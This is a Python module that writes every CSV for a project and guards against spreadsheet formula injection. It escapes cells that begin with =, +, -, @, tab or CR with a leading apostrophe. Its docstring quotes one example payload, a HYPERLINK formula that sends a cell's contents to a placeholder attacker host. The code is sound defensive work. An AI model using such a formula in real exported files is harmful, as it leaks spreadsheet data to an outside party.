"""The one CSV writer: every CSV the project writes goes through `csv_text` / `write_csv`.

Article text and outlet names come from outside, and a spreadsheet runs a cell that starts
with `=`, `+`, `-` or `@` as a formula (`=HYPERLINK("http://evil.example/?leak="&A1)`); a
leading tab or carriage return hides the same trick. As OWASP's "CSV Injection" page
recommends, such a text cell gets a leading apostrophe, which spreadsheets show as text and
pandas reads back as part of the string. Numbers stay numbers: an int or a float is written
as is, and so is a text that is only a signed number ("-12", "+3.5"), which no spreadsheet
can run. List and dict cells are written as JSON (they start with `[` or `{`).

It does not add comment lines: a CSV must open as it is with `pandas.read_csv` and in a
spreadsheet; what an export holds (its provenance) goes beside it (exports.py).
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import Any, TextIO

# OWASP: "=", "+", "-", "@", tab (0x09) and carriage return (0x0D) start a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_SIGNED_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """The value as it may enter a CSV cell: formulas neutralised, lists as JSON.

    >>> safe_cell('=1+2'), safe_cell('-12'), safe_cell(-12), safe_cell(['a'])
    ("'=1+2", '-12', -12, '["a"]')
    """
    if isinstance(value, (list, tuple, dict)):
        return json.dumps(value, ensure_ascii=False)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        if not _SIGNED_NUMBER.fullmatch(value):
            return "'" + value
    return value


def write_csv(stream: TextIO, rows: Iterable[Mapping[str, Any]], fieldnames: Sequence[str]) -> int:
    """Write a header and `rows` (keys beyond `fieldnames` are an error) to `stream`;
    returns the number of rows written."""
    # RFC 4180's CRLF rows: the csv module then quotes any cell holding a CR or an LF; with
    # "\n" rows a bare CR inside a sentence went unquoted and split the row in two.
    writer = csv.DictWriter(stream, fieldnames=list(fieldnames), lineterminator="\r\n")
    # Header names are ours, but neutralise them too: the rule holds for every cell.
    writer.writerow({name: safe_cell(name) for name in fieldnames})
    count = 0
    for row in rows:
        writer.writerow({key: safe_cell(value) for key, value in row.items()})
        count += 1
    return count


def csv_text(rows: Iterable[Mapping[str, Any]], fieldnames: Sequence[str]) -> str:
    """`write_csv` into a string."""
    buffer = io.StringIO()
    write_csv(buffer, rows, fieldnames)
    return buffer.getvalue()
